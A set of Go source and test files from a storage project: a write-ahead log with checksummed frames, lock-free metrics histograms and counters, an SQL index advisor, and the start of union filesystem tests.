// LastSynced returns the highest LSN known durable.
func (l *Log) LastSynced() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.synced
}

// Broken returns the poison error, nil if the log is healthy.
func (l *Log) Broken() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.broken
}

// swapFile atomically replaces the log's file with an empty one iff
// the tail still sits at LSN cut (no append raced the caller's
// snapshot). Returns whether the swap happened. LSNs keep counting
// from cut — they are never reused, which is what lets recovery
// filter WAL records against a snapshot's cut LSN.
func (l *Log) swapFile(cut uint64, open func() (File, error)) (bool, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken != nil || l.appended != cut {
		return false, l.broken
	}
	nf, err := open()
	if err != nil {
		return false, err
	}
	l.f.Close()
	l.f = nf
	l.synced = cut
	return true, nil
}

func (l *Log) close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken == nil {
		l.f.Sync()
	}
	return l.f.Close()
}
