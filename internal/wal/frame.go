// Package wal is the durability layer beneath vfs and sqldb: a
// seed-deterministic append-only write-ahead log of logical records
// plus periodic compacted snapshots, with recovery-on-open.
//
// Layering: vfs and sqldb define small Journal interfaces and know
// nothing about this package; wal implements them (store.go) by
// encoding each mutation as a logical record (record.go), framing it
// (frame.go), and appending it to a Log with group commit (log.go) on
// a pluggable Storage (storage.go). Recovery replays the snapshot and
// then every WAL record past the snapshot's cut LSN, truncating any
// torn tail left by a crash.
package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
)

// Frame layout, all integers little-endian:
//
//	[4B payload length][4B CRC-32 (IEEE) of payload][payload]
//
// payload:
//
//	[8B LSN][1B stream length][stream bytes][record bytes]
//
// The CRC covers the whole payload, so a torn write — a frame whose
// tail never reached the disk — fails the checksum and recovery stops
// cleanly at the previous frame boundary.
const (
	frameHeaderSize = 8
	recHeaderSize   = 9 // LSN + stream length

	// maxPayload bounds a single frame so a corrupt length field cannot
	// drive a giant allocation during recovery.
	maxPayload = 1 << 26 // 64 MiB
)

// ErrTornFrame reports a frame that is truncated or fails its
// checksum: the end of the valid log.
var ErrTornFrame = errors.New("wal: torn or corrupt frame")

// Record is one logical WAL record: a payload tagged with the stream
// it belongs to ("fs" for the file system, "db:<name>" for a
// database) and the log sequence number the Log assigned.
type Record struct {
	LSN     uint64
	Stream  string
	Payload []byte
}

// appendFrame encodes rec as a frame appended to buf.
func appendFrame(buf []byte, rec Record) []byte {
	plen := recHeaderSize + len(rec.Stream) + len(rec.Payload)
	start := len(buf)
	buf = append(buf, make([]byte, frameHeaderSize)...)
	binary.LittleEndian.PutUint32(buf[start:], uint32(plen))
	var lsn [8]byte
	binary.LittleEndian.PutUint64(lsn[:], rec.LSN)
	buf = append(buf, lsn[:]...)
	buf = append(buf, byte(len(rec.Stream)))
	buf = append(buf, rec.Stream...)
	buf = append(buf, rec.Payload...)
	crc := crc32.ChecksumIEEE(buf[start+frameHeaderSize:])
	binary.LittleEndian.PutUint32(buf[start+4:], crc)
	return buf
}

// DecodeFrame decodes the first frame in b, returning the record and
// the number of bytes the frame occupied. A truncated, oversized, or
// checksum-failing frame returns ErrTornFrame; recovery treats it as
// the end of the log. DecodeFrame never panics on arbitrary input
// (FuzzWALDecode).
func DecodeFrame(b []byte) (Record, int, error) {
	if len(b) < frameHeaderSize {
		return Record{}, 0, ErrTornFrame
	}
	plen := int(binary.LittleEndian.Uint32(b))
	if plen < recHeaderSize || plen > maxPayload {
		return Record{}, 0, fmt.Errorf("%w: bad payload length %d", ErrTornFrame, plen)
	}
	if len(b) < frameHeaderSize+plen {
		return Record{}, 0, ErrTornFrame
	}
	payload := b[frameHeaderSize : frameHeaderSize+plen]
	crc := binary.LittleEndian.Uint32(b[4:])
	if crc32.ChecksumIEEE(payload) != crc {
		return Record{}, 0, fmt.Errorf("%w: checksum mismatch", ErrTornFrame)
	}
	slen := int(payload[8])
	if recHeaderSize+slen > plen {
		return Record{}, 0, fmt.Errorf("%w: stream name overruns payload", ErrTornFrame)
	}
	rec := Record{
		LSN:     binary.LittleEndian.Uint64(payload),
		Stream:  string(payload[recHeaderSize : recHeaderSize+slen]),
		Payload: payload[recHeaderSize+slen:],
	}
	return rec, frameHeaderSize + plen, nil
}

// scanFrames decodes consecutive frames from b, calling fn for each,
// and returns the byte length of the valid prefix. Decoding stops at
// the first torn frame — everything after a torn write is garbage by
// the log's append-only discipline. A non-nil error from fn aborts
// the scan.
func scanFrames(b []byte, fn func(Record) error) (int, error) {
	off := 0
	for off < len(b) {
		rec, n, err := DecodeFrame(b[off:])
		if err != nil {
			break
		}
		if err := fn(rec); err != nil {
			return off, err
		}
		off += n
	}
	return off, nil
}
