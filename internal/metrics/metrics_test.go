package metrics

import (
	"sync"
	"testing"
	"time"
)

func TestHistogramQuantiles(t *testing.T) {
	h := NewHistogram("t")
	// 1000 samples: 1µs..1000µs. p50 ≈ 500µs, p99 ≈ 990µs within a
	// log-bucket factor.
	for i := 1; i <= 1000; i++ {
		h.Observe(time.Duration(i) * time.Microsecond)
	}
	s := h.Snapshot()
	if s.Count != 1000 {
		t.Fatalf("count = %d, want 1000", s.Count)
	}
	if s.Min != time.Microsecond || s.Max != 1000*time.Microsecond {
		t.Fatalf("min/max = %v/%v", s.Min, s.Max)
	}
	p50 := s.P50()
	if p50 < 250*time.Microsecond || p50 > 1000*time.Microsecond {
		t.Fatalf("p50 = %v, outside log-bucket tolerance of 500µs", p50)
	}
	p99 := s.P99()
	if p99 < 500*time.Microsecond || p99 > 1000*time.Microsecond {
		t.Fatalf("p99 = %v, outside tolerance of 990µs", p99)
	}
	if got := s.P999(); got < p99 || got > s.Max {
		t.Fatalf("p999 = %v not in [p99, max]", got)
	}
	if mean := s.Mean(); mean <= 0 || mean > s.Max {
		t.Fatalf("mean = %v", mean)
	}
}

func TestHistogramEmpty(t *testing.T) {
	h := NewHistogram("empty")
	s := h.Snapshot()
	if s.Count != 0 || s.Min != 0 || s.Max != 0 || s.P99() != 0 || s.Mean() != 0 {
		t.Fatalf("empty snapshot not zero: %+v", s)
	}
}

func TestHistogramQuantileOrdering(t *testing.T) {
	h := NewHistogram("ord")
	durs := []time.Duration{time.Nanosecond, 10 * time.Nanosecond,
		time.Microsecond, 30 * time.Microsecond, time.Millisecond, time.Second}
	for _, d := range durs {
		for i := 0; i < 100; i++ {
			h.Observe(d)
		}
	}
	s := h.Snapshot()
	prev := time.Duration(-1)
	for _, q := range []float64{0, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 0.999, 1} {
		v := s.Quantile(q)
		if v < prev {
			t.Fatalf("quantile %v = %v < previous %v (not monotone)", q, v, prev)
		}
		if v < s.Min || v > s.Max {
			t.Fatalf("quantile %v = %v outside [min, max]", q, v)
		}
		prev = v
	}
}

func TestHistogramConcurrent(t *testing.T) {
	h := NewHistogram("conc")
	const goroutines, perG = 8, 10000
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				h.Observe(time.Duration(g*perG+i) * time.Nanosecond)
			}
		}(g)
	}
	wg.Wait()
	s := h.Snapshot()
	if s.Count != goroutines*perG {
		t.Fatalf("count = %d, want %d (lost updates)", s.Count, goroutines*perG)
	}
}

func TestCounter(t *testing.T) {
	c := NewCounter("ops")
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				c.Inc()
			}
		}()
	}
	wg.Wait()
	if got := c.Total(); got != 8000 {
		t.Fatalf("total = %d, want 8000", got)
	}
}

func TestRegistry(t *testing.T) {
	r := NewRegistry()
	h1 := r.Histogram("binder.call")
	h2 := r.Histogram("binder.call")
	if h1 != h2 {
		t.Fatal("same name returned distinct histograms")
	}
	r.Histogram("sqldb.exec").Observe(time.Millisecond)
	h1.Observe(time.Microsecond)
	snaps := r.Snapshots()
	if len(snaps) != 2 || snaps[0].Name != "binder.call" || snaps[1].Name != "sqldb.exec" {
		t.Fatalf("snapshots = %+v", snaps)
	}
	r.Counter("ops").Add(5)
	if r.Counter("ops").Total() != 5 {
		t.Fatal("counter lost value")
	}
	if tot := r.Totals(); tot["ops"] != 5 {
		t.Fatalf("totals = %v", tot)
	}
}

func TestGauge(t *testing.T) {
	r := NewRegistry()
	g := r.Gauge("wal.health")
	if g != r.Gauge("wal.health") {
		t.Fatal("same name returned distinct gauges")
	}
	if g.Name() != "wal.health" || g.Value() != 0 {
		t.Fatalf("fresh gauge: name=%q value=%d", g.Name(), g.Value())
	}
	g.Set(2)
	g.Set(3)
	if g.Value() != 3 {
		t.Fatalf("Value = %d, want last-set 3", g.Value())
	}
	if all := r.Gauges(); len(all) != 1 || all["wal.health"] != 3 {
		t.Fatalf("Gauges = %v", all)
	}
}

func BenchmarkObserve(b *testing.B) {
	h := NewHistogram("bench")
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			h.Observe(1234 * time.Nanosecond)
		}
	})
}
