// Package metrics provides the fleet-scale observability primitives the
// load engine and the substrate's hot paths record into: lock-free
// sharded latency histograms with p50/p99/p999 extraction, and sharded
// throughput counters. Recording never takes a lock and never
// allocates; shards are cache-line padded so concurrent recorders on
// different shards do not false-share. Reading (quantiles, totals)
// merges the shards with atomic loads and may run concurrently with
// recorders — readers see a slightly stale but internally consistent
// view, which is what a monitoring plane wants.
package metrics

import (
	"fmt"
	"math"
	"math/bits"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// numShards spreads recorders across cache lines. A power of two so the
// shard pick is a mask, sized for tens of hardware threads.
const numShards = 16

// Histogram buckets are log-scale: bucket i covers [2^i, 2^(i+1)) ns,
// 64 buckets cover every latency an int64 nanosecond count can express.
// Quantile extraction interpolates linearly inside the bucket, so p99
// error is bounded by the bucket's width (a factor of 2 worst case,
// far less in practice because the mass concentrates mid-bucket).
const numBuckets = 64

// pad keeps each shard on its own cache line(s).
type pad [64]byte

// histShard is one recorder lane of a Histogram.
type histShard struct {
	count   atomic.Int64
	sum     atomic.Int64
	min     atomic.Int64 // math.MaxInt64 when empty
	max     atomic.Int64
	buckets [numBuckets]atomic.Int64
	_       pad
}

// Histogram is a lock-free sharded latency histogram. The zero value is
// NOT ready; use NewHistogram.
type Histogram struct {
	name   string
	shards [numShards]histShard
	picker atomic.Uint32
}

// NewHistogram creates an empty named histogram.
func NewHistogram(name string) *Histogram {
	h := &Histogram{name: name}
	for i := range h.shards {
		h.shards[i].min.Store(math.MaxInt64)
	}
	return h
}

// Name returns the histogram's registered name.
func (h *Histogram) Name() string { return h.name }

// bucketOf maps a nanosecond duration to its log-scale bucket.
func bucketOf(ns int64) int {
	if ns <= 0 {
		return 0
	}
	return bits.Len64(uint64(ns)) - 1
}

// Observe records one latency sample. Safe for any number of concurrent
// callers; never blocks, never allocates.
func (h *Histogram) Observe(d time.Duration) {
	ns := int64(d)
	if ns < 0 {
		ns = 0
	}
	s := &h.shards[h.picker.Add(1)&(numShards-1)]
	s.count.Add(1)
	s.sum.Add(ns)
	s.buckets[bucketOf(ns)].Add(1)
	for {
		cur := s.min.Load()
		if ns >= cur || s.min.CompareAndSwap(cur, ns) {
			break
		}
	}
	for {
		cur := s.max.Load()
		if ns <= cur || s.max.CompareAndSwap(cur, ns) {
			break
		}
	}
}

// Snapshot is a merged, immutable view of a histogram.
type Snapshot struct {
	Name    string
	Count   int64
	Sum     time.Duration
	Min     time.Duration
	Max     time.Duration
	buckets [numBuckets]int64
}

// Snapshot merges the shards. Concurrent recorders may land between
// shard reads; each shard's own counters are read atomically.
func (h *Histogram) Snapshot() Snapshot {
	out := Snapshot{Name: h.name, Min: time.Duration(math.MaxInt64)}
	for i := range h.shards {
		s := &h.shards[i]
		out.Count += s.count.Load()
		out.Sum += time.Duration(s.sum.Load())
		if m := time.Duration(s.min.Load()); m < out.Min {
			out.Min = m
		}
		if m := time.Duration(s.max.Load()); m > out.Max {
			out.Max = m
		}
		for b := range s.buckets {
			out.buckets[b] += s.buckets[b].Load()
		}
	}
	if out.Count == 0 {
		out.Min = 0
	}
	return out
}

// Mean returns the average sample.
func (s Snapshot) Mean() time.Duration {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / time.Duration(s.Count)
}

// Quantile returns the q-th (0..1) latency quantile, interpolated
// within the containing log bucket.
func (s Snapshot) Quantile(q float64) time.Duration {
	if s.Count == 0 {
		return 0
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	rank := q * float64(s.Count-1)
	var seen float64
	for b, n := range s.buckets {
		if n == 0 {
			continue
		}
		fn := float64(n)
		if seen+fn > rank {
			lo := float64(int64(1) << uint(b))
			if b == 0 {
				lo = 0
			}
			hi := float64(int64(1) << uint(b+1))
			frac := (rank - seen) / fn
			ns := lo + (hi-lo)*frac
			return clampDuration(ns, s.Min, s.Max)
		}
		seen += fn
	}
	return s.Max
}

// clampDuration keeps interpolated values inside the observed range.
func clampDuration(ns float64, min, max time.Duration) time.Duration {
	d := time.Duration(ns)
	if d < min {
		return min
	}
	if d > max {
		return max
	}
	return d
}

// P50, P99, P999 are the quantiles the roadmap's trajectory tracks.
func (s Snapshot) P50() time.Duration  { return s.Quantile(0.50) }
func (s Snapshot) P99() time.Duration  { return s.Quantile(0.99) }
func (s Snapshot) P999() time.Duration { return s.Quantile(0.999) }

// String renders the snapshot compactly for logs.
func (s Snapshot) String() string {
	return fmt.Sprintf("%s: n=%d p50=%v p99=%v p999=%v max=%v",
		s.Name, s.Count, s.P50(), s.P99(), s.P999(), s.Max)
}

// Counter is a sharded monotonic counter (throughput, rejections).
type Counter struct {
	name   string
	shards [numShards]struct {
		n atomic.Int64
		_ pad
	}
	picker atomic.Uint32
}

// NewCounter creates a named counter at zero.
func NewCounter(name string) *Counter { return &Counter{name: name} }

// Name returns the counter's registered name.
func (c *Counter) Name() string { return c.name }

// Add increments the counter by n.
func (c *Counter) Add(n int64) {
	c.shards[c.picker.Add(1)&(numShards-1)].n.Add(n)
}

// Inc increments the counter by one.
func (c *Counter) Inc() { c.Add(1) }

// Total merges the shards.
func (c *Counter) Total() int64 {
	var t int64
	for i := range c.shards {
		t += c.shards[i].n.Load()
	}
	return t
}

// Gauge is a last-value-wins instantaneous metric (health state, queue
// depth). Unlike Counter it is not sharded: sets are rare compared to
// counter increments, and a gauge must read back exactly what was last
// stored, so a single atomic is both correct and fast enough.
type Gauge struct {
	name string
	v    atomic.Int64
}

// NewGauge creates a named gauge at zero.
func NewGauge(name string) *Gauge { return &Gauge{name: name} }

// Name returns the gauge's registered name.
func (g *Gauge) Name() string { return g.name }

// Set stores the gauge's current value.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Value returns the last value stored.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Registry names histograms, counters, and gauges so layers can share
// one metrics plane without plumbing pointers everywhere. Get-or-create
// is lock-free on the hot path after first use (sync.Map reads).
type Registry struct {
	hists    sync.Map // name -> *Histogram
	counters sync.Map // name -> *Counter
	gauges   sync.Map // name -> *Gauge
}

// NewRegistry creates an empty registry.
func NewRegistry() *Registry { return &Registry{} }

// Default is the process-wide registry the substrate records into when
// no explicit registry is wired.
var Default = NewRegistry()

// Histogram returns the named histogram, creating it on first use.
func (r *Registry) Histogram(name string) *Histogram {
	if v, ok := r.hists.Load(name); ok {
		return v.(*Histogram)
	}
	v, _ := r.hists.LoadOrStore(name, NewHistogram(name))
	return v.(*Histogram)
}

// Counter returns the named counter, creating it on first use.
func (r *Registry) Counter(name string) *Counter {
	if v, ok := r.counters.Load(name); ok {
		return v.(*Counter)
	}
	v, _ := r.counters.LoadOrStore(name, NewCounter(name))
	return v.(*Counter)
}

// Gauge returns the named gauge, creating it on first use.
func (r *Registry) Gauge(name string) *Gauge {
	if v, ok := r.gauges.Load(name); ok {
		return v.(*Gauge)
	}
	v, _ := r.gauges.LoadOrStore(name, NewGauge(name))
	return v.(*Gauge)
}

// Snapshots returns every histogram's snapshot, sorted by name.
func (r *Registry) Snapshots() []Snapshot {
	var out []Snapshot
	r.hists.Range(func(_, v any) bool {
		out = append(out, v.(*Histogram).Snapshot())
		return true
	})
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Totals returns every counter's total, keyed by name.
func (r *Registry) Totals() map[string]int64 {
	out := make(map[string]int64)
	r.counters.Range(func(k, v any) bool {
		out[k.(string)] = v.(*Counter).Total()
		return true
	})
	return out
}

// Gauges returns every gauge's current value, keyed by name.
func (r *Registry) Gauges() map[string]int64 {
	out := make(map[string]int64)
	r.gauges.Range(func(k, v any) bool {
		out[k.(string)] = v.(*Gauge).Value()
		return true
	})
	return out
}
