// Package advisor mines a recorded sqldb workload for index
// opportunities and emits CREATE INDEX DDL. It is the offline half of
// the planner split: sqldb records what ran (statement text, how
// often, and which columns each statement could use an index for),
// and the advisor turns that record into concrete DDL ranked by how
// much of the workload each index would serve.
//
// The mining is deliberately simple and transparent:
//
//   - Every workload entry proposes one candidate index: its equality
//     columns (in recorded order) plus at most one range column last.
//     Equality-only candidates become HASH indexes (O(1) point
//     probes); anything with a range column becomes ORDERED, since
//     only the sorted representation supports range scans.
//   - Candidates from different statements merge when one serves the
//     other: an ORDERED index serves any candidate whose columns are
//     a prefix of its own, and also serves the equality-only HASH
//     candidate on that same prefix. Frequencies accumulate onto the
//     surviving candidate.
//   - Candidates already served by an existing index on the live
//     database are dropped, as are candidates on the primary key
//     column alone (the built-in PK probe already covers those).
//   - Survivors are ranked by Benefit: the total number of recorded
//     executions the index would accelerate, i.e. frequency-weighted
//     coverage, not per-statement gain.
package advisor

import (
	"fmt"
	"sort"
	"strings"

	"maxoid/internal/sqldb"
)

// Recommendation is one proposed index with ready-to-run DDL.
type Recommendation struct {
	Table   string
	Columns []string
	Kind    string // "ORDERED" or "HASH"
	DDL     string
	Benefit int64 // recorded executions this index would serve
}

// candidate is a recommendation under construction.
type candidate struct {
	table   string
	cols    []string // lower-cased for matching; display uses recorded case
	display []string
	kind    string
	benefit int64
}

// Recommend mines a workload (as returned by
// sqldb.StopWorkloadRecording) and returns up to max recommendations,
// highest Benefit first. db may be nil; when non-nil, candidates
// already covered by existing indexes or the primary key are dropped.
func Recommend(db *sqldb.DB, work []sqldb.WorkloadEntry, max int) []Recommendation {
	if max <= 0 {
		max = 5
	}
	var cands []*candidate
	for _, w := range work {
		c := candidateFor(db, w)
		if c != nil {
			cands = append(cands, c)
		}
	}
	cands = mergeCandidates(cands)

	recs := make([]Recommendation, 0, len(cands))
	for _, c := range cands {
		if db != nil && coveredByExisting(db, c) {
			continue
		}
		recs = append(recs, Recommendation{
			Table:   c.table,
			Columns: append([]string(nil), c.display...),
			Kind:    c.kind,
			DDL:     renderDDL(c),
			Benefit: c.benefit,
		})
	}
	sort.Slice(recs, func(i, j int) bool {
		if recs[i].Benefit != recs[j].Benefit {
			return recs[i].Benefit > recs[j].Benefit
		}
		return recs[i].DDL < recs[j].DDL
	})
	if len(recs) > max {
		recs = recs[:max]
	}
	return recs
}

// candidateFor turns one workload entry into an index candidate, or
// nil when the entry offers nothing indexable.
func candidateFor(db *sqldb.DB, w sqldb.WorkloadEntry) *candidate {
	if w.Table == "" || (len(w.EqCols) == 0 && len(w.RangeCols) == 0) {
		return nil
	}
	display := append([]string(nil), w.EqCols...)
	kind := "HASH"
	if len(w.RangeCols) > 0 {
		// One range column, last: the ordered index consumes an
		// equality prefix and then one range bound (see access.go).
		display = append(display, w.RangeCols[0])
		kind = "ORDERED"
	}
	if db != nil && len(display) == 1 && isPrimaryKey(db, w.Table, display[0]) {
		return nil
	}
	cols := make([]string, len(display))
	for i, c := range display {
		cols[i] = strings.ToLower(c)
	}
	return &candidate{
		table:   w.Table,
		cols:    cols,
		display: display,
		kind:    kind,
		benefit: w.Count,
	}
}

// mergeCandidates folds candidates that another candidate already
// serves. Processing wider candidates first makes the fold a single
// pass: by the time a narrow candidate is considered, every index
// that could absorb it is already in the kept set.
func mergeCandidates(cands []*candidate) []*candidate {
	sort.SliceStable(cands, func(i, j int) bool {
		if len(cands[i].cols) != len(cands[j].cols) {
			return len(cands[i].cols) > len(cands[j].cols)
		}
		return cands[i].benefit > cands[j].benefit
	})
	var kept []*candidate
next:
	for _, c := range cands {
		for _, k := range kept {
			if serves(k, c) {
				k.benefit += c.benefit
				continue next
			}
		}
		kept = append(kept, c)
	}
	return kept
}

// serves reports whether index candidate k would accelerate the
// statements behind candidate c. An ORDERED index serves any
// same-table candidate whose columns are a prefix of its own (prefix
// probes and prefix+range scans both work); a HASH index serves only
// the exact same equality column set.
func serves(k, c *candidate) bool {
	if k.table != c.table {
		return false
	}
	if k.kind == "HASH" {
		return c.kind == "HASH" && equalCols(k.cols, c.cols)
	}
	if len(c.cols) > len(k.cols) {
		return false
	}
	for i, col := range c.cols {
		if k.cols[i] != col {
			return false
		}
	}
	return true
}

func equalCols(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// coveredByExisting checks the live database for an index that
// already serves the candidate.
func coveredByExisting(db *sqldb.DB, c *candidate) bool {
	infos, ok := db.TableIndexes(c.table)
	if !ok {
		return false
	}
	for _, info := range infos {
		k := &candidate{table: c.table, kind: info.Kind, cols: make([]string, len(info.Columns))}
		for i, col := range info.Columns {
			k.cols[i] = strings.ToLower(col)
		}
		if serves(k, c) {
			return true
		}
	}
	return false
}

func isPrimaryKey(db *sqldb.DB, table, col string) bool {
	cols, ok := db.TableColumns(table)
	if !ok {
		return false
	}
	for _, cd := range cols {
		if cd.PrimaryKey && strings.EqualFold(cd.Name, col) {
			return true
		}
	}
	return false
}

// renderDDL emits the CREATE INDEX statement for a candidate. Names
// are deterministic (adv_<table>_<cols>, hash variants suffixed so an
// ordered and a hash index on the same columns never collide) so
// repeated advisor runs are idempotent against IF NOT EXISTS.
func renderDDL(c *candidate) string {
	name := "adv_" + strings.ToLower(c.table) + "_" + strings.Join(c.cols, "_")
	if c.kind == "HASH" {
		name += "_hash"
	}
	ddl := fmt.Sprintf("CREATE INDEX IF NOT EXISTS %s ON %s (%s)",
		name, c.table, strings.Join(c.display, ", "))
	if c.kind == "HASH" {
		ddl += " USING HASH"
	}
	return ddl
}
