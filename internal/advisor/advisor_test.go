package advisor

import (
	"strings"
	"testing"

	"maxoid/internal/sqldb"
)

func workloadDB(t *testing.T) *sqldb.DB {
	t.Helper()
	db := sqldb.Open()
	if _, err := db.Exec("CREATE TABLE files (_id INTEGER PRIMARY KEY, media_type INTEGER, size INTEGER, title TEXT)"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 20; i++ {
		if _, err := db.Exec("INSERT INTO files (media_type, size, title) VALUES (?, ?, ?)",
			int64(i%3), int64(i*100), "t"); err != nil {
			t.Fatal(err)
		}
	}
	return db
}

// record replays a workload against db with recording on and returns
// the mined entries.
func record(t *testing.T, db *sqldb.DB, stmts map[string]int) []sqldb.WorkloadEntry {
	t.Helper()
	db.StartWorkloadRecording()
	for sql, n := range stmts {
		for i := 0; i < n; i++ {
			if _, err := db.Query(sql); err != nil {
				t.Fatalf("%s: %v", sql, err)
			}
		}
	}
	return db.StopWorkloadRecording()
}

func TestRecommendFromRecordedWorkload(t *testing.T) {
	db := workloadDB(t)
	work := record(t, db, map[string]int{
		"SELECT _id FROM files WHERE media_type = 1":               8,
		"SELECT _id FROM files WHERE media_type = 2 AND size > 50": 3,
		"SELECT _id FROM files WHERE title = 'x'":                  1,
	})
	recs := Recommend(db, work, 5)
	if len(recs) != 2 {
		t.Fatalf("want 2 recommendations, got %d: %+v", len(recs), recs)
	}
	// The (media_type, size) ORDERED candidate absorbs the
	// equality-only media_type candidate (prefix), accumulating both
	// frequencies; the title candidate stays separate.
	top := recs[0]
	if top.Kind != "ORDERED" || top.Benefit != 11 {
		t.Fatalf("top recommendation: want ORDERED benefit 11, got %+v", top)
	}
	if got := strings.Join(top.Columns, ","); got != "media_type,size" {
		t.Fatalf("top columns: %s", got)
	}
	if !strings.Contains(top.DDL, "CREATE INDEX IF NOT EXISTS adv_files_media_type_size ON files (media_type, size)") {
		t.Fatalf("top DDL: %s", top.DDL)
	}
	if recs[1].Kind != "HASH" || recs[1].Benefit != 1 || recs[1].Columns[0] != "title" {
		t.Fatalf("second recommendation: %+v", recs[1])
	}
	// Every emitted DDL must actually run on the live database.
	for _, r := range recs {
		if _, err := db.Exec(r.DDL); err != nil {
			t.Fatalf("advisor DDL rejected: %s: %v", r.DDL, err)
		}
	}
}

func TestRecommendSkipsExistingAndPK(t *testing.T) {
	db := workloadDB(t)
	if _, err := db.Exec("CREATE INDEX files_mt ON files (media_type, size)"); err != nil {
		t.Fatal(err)
	}
	work := record(t, db, map[string]int{
		"SELECT _id FROM files WHERE media_type = 1 AND size > 10": 5, // covered by files_mt
		"SELECT title FROM files WHERE _id = 3":                    9, // PK probe already
		"SELECT _id FROM files WHERE title = 'x'":                  2,
	})
	recs := Recommend(db, work, 5)
	if len(recs) != 1 || recs[0].Columns[0] != "title" {
		t.Fatalf("want only the title recommendation, got %+v", recs)
	}
}

func TestRecommendMergesHashIntoOrdered(t *testing.T) {
	work := []sqldb.WorkloadEntry{
		{SQL: "a", Count: 4, Table: "t", EqCols: []string{"a", "b"}},
		{SQL: "b", Count: 2, Table: "t", EqCols: []string{"a"}, RangeCols: []string{"b"}},
		{SQL: "c", Count: 1, Table: "t", EqCols: []string{"a"}},
	}
	recs := Recommend(nil, work, 5)
	if len(recs) != 2 {
		t.Fatalf("want 2 recommendations, got %+v", recs)
	}
	// HASH (a,b) point lookups keep their own index (O(1) beats the
	// ordered probe); ORDERED (a,b) absorbs the eq-only (a) prefix.
	var ordered, hash *Recommendation
	for i := range recs {
		switch recs[i].Kind {
		case "ORDERED":
			ordered = &recs[i]
		case "HASH":
			hash = &recs[i]
		}
	}
	if ordered == nil || hash == nil {
		t.Fatalf("want one ORDERED and one HASH, got %+v", recs)
	}
	if ordered.Benefit != 3 || hash.Benefit != 4 {
		t.Fatalf("benefits: ordered %d hash %d", ordered.Benefit, hash.Benefit)
	}
}

func TestRecommendMaxAndEmpty(t *testing.T) {
	if recs := Recommend(nil, nil, 3); len(recs) != 0 {
		t.Fatalf("empty workload: %+v", recs)
	}
	work := []sqldb.WorkloadEntry{
		{SQL: "a", Count: 3, Table: "t", EqCols: []string{"a"}},
		{SQL: "b", Count: 2, Table: "t", EqCols: []string{"b"}},
		{SQL: "c", Count: 1, Table: "t", EqCols: []string{"c"}},
	}
	recs := Recommend(nil, work, 2)
	if len(recs) != 2 || recs[0].Benefit != 3 || recs[1].Benefit != 2 {
		t.Fatalf("max truncation: %+v", recs)
	}
}
