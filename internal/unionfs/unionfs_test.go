package unionfs

import (
	"bytes"
	"errors"
	"testing"

	"maxoid/internal/vfs"
)

// newTestUnion builds a disk with a writable branch at /upper and a
// read-only branch at /lower, returning the disk and the union.
func newTestUnion(t *testing.T, opts Options) (*vfs.FS, *Union) {
	t.Helper()
	disk := vfs.New()
	for _, d := range []string{"/upper", "/lower"} {
		if err := disk.MkdirAll(vfs.Root, d, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	u, err := New(opts,
		Branch{FS: vfs.Sub(disk, "/upper"), Writable: true},
		Branch{FS: vfs.Sub(disk, "/lower")},
	)
	if err != nil {
		t.Fatal(err)
	}
	return disk, u
}

func TestReadFromLowerBranch(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("low"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/f")
	if err != nil || string(got) != "low" {
		t.Errorf("read lower = %q, %v", got, err)
	}
}

func TestUpperShadowsLower(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("low"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/upper/f", []byte("up"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/f")
	if err != nil || string(got) != "up" {
		t.Errorf("read = %q, %v; want upper copy", got, err)
	}
}

func TestWriteGoesToWritableBranch(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(u, vfs.Root, "/new", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if !vfs.Exists(disk, vfs.Root, "/upper/new") {
		t.Error("write did not land in writable branch")
	}
	if vfs.Exists(disk, vfs.Root, "/lower/new") {
		t.Error("write leaked into read-only branch")
	}
}

func TestCopyUpOnModify(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/doc", []byte("original"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(u, vfs.Root, "/doc", []byte("edited"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Lower branch is untouched — this is Maxoid property S2.
	low, _ := vfs.ReadFile(disk, vfs.Root, "/lower/doc")
	if string(low) != "original" {
		t.Errorf("lower branch mutated to %q", low)
	}
	up, err := vfs.ReadFile(disk, vfs.Root, "/upper/doc")
	if err != nil || string(up) != "edited" {
		t.Errorf("upper copy = %q, %v", up, err)
	}
	// Merged view reads its own write (U3: read-your-writes).
	merged, _ := vfs.ReadFile(u, vfs.Root, "/doc")
	if string(merged) != "edited" {
		t.Errorf("merged view = %q, want edited", merged)
	}
}

func TestCopyUpOnAppendPreservesData(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
